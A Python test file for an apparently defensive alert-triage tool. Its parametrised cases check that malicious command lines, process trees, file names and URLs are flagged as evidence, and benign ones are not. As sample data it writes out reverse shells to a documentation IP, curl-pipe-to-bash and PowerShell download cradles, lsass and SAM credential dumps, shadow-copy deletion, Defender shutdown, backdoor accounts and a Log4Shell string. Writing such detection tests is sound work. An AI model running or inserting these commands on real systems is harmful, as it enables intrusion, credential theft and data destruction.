"""What command lines, parents, files and requests are found to show."""

import time
from base64 import b64encode
from datetime import UTC, datetime

import pytest
from tocsin.triage.signs import SIGNS

from tocsin.model import Alert, Dossier, Evidence, File, Http, ParentProcess, Process
from tocsin.triage import triage

NOW = datetime(2026, 3, 4, 14, 14, 59, tzinfo=UTC)


def evidence_of(alert: Alert) -> dict[str, Evidence]:
    """What triage finds in an alert of a Windows rule, by the evidence's name."""
    dossier = Dossier(
        alert_id="0195-d", received_at=NOW, payload="{}", source="windows", alert=alert
    )
    return {item.name: item for item in triage(dossier).evidence}


def run(command_line: str) -> dict[str, Evidence]:
    """What triage finds in a command line."""
    return evidence_of(Alert(title="Process", process=Process(command_line=command_line)))


def encoded(script: str) -> str:
    """A script as PowerShell takes it after -EncodedCommand."""
    return b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("code", "command_line"),
    [
        ("encoded", "powershell.exe -NoP -enc " + encoded("Get-Date; Get-Process")),
        ("encoded", "pwsh /EncodedCommand '" + encoded("Get-Date; Get-Process") + "'"),
        ("encoded", "p^ower^shell -e^n^c " + encoded("Get-Date; Get-Process")),
        ("download", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/')"),
        ("download", "curl -s http://203.0.113.9/i.sh | sudo bash"),
        ("download", "powershell -enc " + encoded("iwr http://203.0.113.9/a -useb | iex")),
        ("hidden", "powershell -WindowStyle   Hidden -File a.ps1"),
        ("hidden", "powershell -ExecutionPolicy Bypass -File a.ps1"),
        ("borrowed_binary", "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll"),
        ("borrowed_binary", "certutil.exe -urlcache -split -f http://203.0.113.9/a a.exe"),
        ("borrowed_binary", "mshta http://203.0.113.9/a.hta"),
        ("credential_dump", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 o full"),
        ("credential_dump", "procdump64.exe -ma lsass.exe out.dmp"),
        ("credential_dump", "reg.exe save HKLM\\SAM C:\\temp\\sam"),
        ("credential_dump", "cat /etc/shadow"),
        ("backup_deletion", 'vssadmin.exe "delete" shadows /all /quiet'),
        ("backup_deletion", "wmic shadowcopy delete"),
        ("backup_deletion", "bcdedit /set {default} recoveryenabled No"),
        ("defence_off", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        ("defence_off", "sc stop WinDefend"),
        ("defence_off", "netsh advfirewall set allprofiles state off"),
        ("log_clearing", "wevtutil cl Security"),
        ("log_clearing", "rm -rf /var/log/audit"),
        ("persistence", "schtasks /create /tn x /tr a.exe /sc onlogon"),
        ("persistence", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x"),
        ("persistence", "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
        ("account", "net user backdoor Passw0rd! /add"),
        ("account", "net localgroup administrators backdoor /add"),
        ("discovery", "nltest /domain_trusts"),
        ("remote_execution", "PsExec.exe \\\\srv-2 -s cmd"),
        ("remote_execution", "wmic /node:srv-2 process call create calc"),
        ("reverse_shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("reverse_shell", "nc 203.0.113.9 4444 -e /bin/sh"),
        ("attack_tool", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"),
        ("exfiltration", "rclone copy C:\\shares remote:x"),
        ("miner", "./x -o stratum+tcp://pool.example.net:3333 -u w"),
        ("obfuscated", "cmd /c s^e^t^ ^x^=^c^a^l^c^&^&^c^all"),
        ("obfuscated", "powershell [Convert]::FromBase64String($a)"),
        ("too_long", "cmd /c " + " " * 9000 + "echo"),
    ],
)
def test_a_suspicious_command_line_is_recognised(code: str, command_line: str) -> None:
    found = run(command_line)
    item = found["command." + code]
    assert item.weight > 0
    assert item.tainted
    assert item.pointer == "alerts/0195-d#/process/command_line"


@pytest.mark.parametrize(
    "command_line",
    [
        "C:\\Program Files\\Example\\updater.exe --check --channel stable",
        "/usr/sbin/sshd -D -R",
        "ps -ef /usr/lib/systemd/systemd-journald",
        "python3 manage.py runserver 0.0.0.0:8000",
        "git commit -m 'enable new service names'",
        "rsync -a /srv/data backup@example.org:/srv",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "node server.js --port 8080",
        "",
    ],
)
def test_an_everyday_command_line_shows_nothing(command_line: str) -> None:
    assert [name for name in run(command_line) if name.startswith("command.")] == []


def test_an_encoded_command_is_decoded_and_shown() -> None:
    found = run("powershell -enc " + encoded("Invoke-Mimikatz -DumpCreds"))
    assert "Invoke-Mimikatz" in found["command.encoded"].statement
    assert "once decoded" in found["command.attack_tool"].statement


def test_all_signs_together_raise_no_more_than_the_limit() -> None:
    everything = (
        "mimikatz; vssadmin delete shadows; bash -i >& /dev/tcp/1; wevtutil cl; sc stop windefend"
    )
    total = sum(
        item.weight for name, item in run(everything).items() if name.startswith("command.")
    )
    assert total == pytest.approx(4.5)


@pytest.mark.parametrize("sign", SIGNS, ids=lambda sign: sign.code)
def test_every_expression_takes_little_time_on_hostile_text(sign: object) -> None:
    assert sign in SIGNS
    pattern = next(item.pattern for item in SIGNS if item is sign)
    tokens = next(item.tokens for item in SIGNS if item is sign)
    texts = [token * (8192 // len(token)) for token in tokens]
    texts += [(token + " ") * (8192 // (len(token) + 1)) for token in tokens]
    texts += [" " * 8192, "a" * 8192, "net user " * 900, "curl -o " * 1000, "socket.socket" * 600]
    started = time.process_time()
    for text in texts:
        pattern.search(text)
    assert (time.process_time() - started) / len(texts) < 0.05


@pytest.mark.parametrize(
    ("name", "parent", "child"),
    [
        ("process.office_child", "WINWORD.EXE", "powershell.exe"),
        ("process.office_child", "C:\\Program Files\\Office\\EXCEL.EXE", "C:\\Windows\\cmd.exe"),
        ("process.web_child", "w3wp.exe", "cmd.exe"),
        ("process.web_child", "/usr/sbin/nginx", "/bin/bash"),
    ],
)
def test_a_shell_from_a_program_that_starts_none_is_recognised(
    name: str, parent: str, child: str
) -> None:
    process = Process(executable=child, parent=ParentProcess(executable=parent))
    assert name in evidence_of(Alert(title="Process", process=process))


def test_a_shell_from_the_desktop_is_nothing() -> None:
    process = Process(name="cmd.exe", parent=ParentProcess(name="explorer.exe"))
    found = evidence_of(Alert(title="Process", process=process))
    assert not [name for name in found if name.startswith("process.")]


@pytest.mark.parametrize(
    ("name", "alert"),
    [
        ("file.double_extension", Alert(title="t", file=File(name="invoice.pdf.exe"))),
        ("file.double_extension", Alert(title="t", file=File(name="a.docx      .scr"))),
        ("file.temporary_program", Alert(title="t", file=File(path="C:\\Windows\\Temp\\a.exe"))),
        ("file.script", Alert(title="t", file=File(name="order.hta"))),
        ("web.exploit_text", Alert(title="t", url="http://example.com/?x=${jndi:ldap://a/}")),
        ("web.exploit_text", Alert(title="t", url="/../../etc/passwd")),
        ("web.command_text", Alert(title="t", url="http://example.com/u.php?cmd=whoami")),
        ("web.program_download", Alert(title="t", url="http://203.0.113.9:8080/a/b.ps1")),
        ("web.tool_agent", Alert(title="t", http=Http(user_agent="sqlmap/1.7.2#stable"))),
    ],
)
def test_files_and_requests_show_what_they_carry(name: str, alert: Alert) -> None:
    item = evidence_of(alert)[name]
    assert item.tainted
    assert item.weight > 0


@pytest.mark.parametrize(
    "alert",
    [
        Alert(title="t", file=File(name="report.final.pdf", path="C:\\Users\\alice\\report.pdf")),
        Alert(title="t", url="https://www.example.com/products?page=2&sort=price"),
        Alert(title="t", http=Http(user_agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")),
    ],
)
def test_everyday_files_and_requests_show_nothing(alert: Alert) -> None:
    assert not [name for name in evidence_of(alert) if name.startswith(("file.", "web."))]
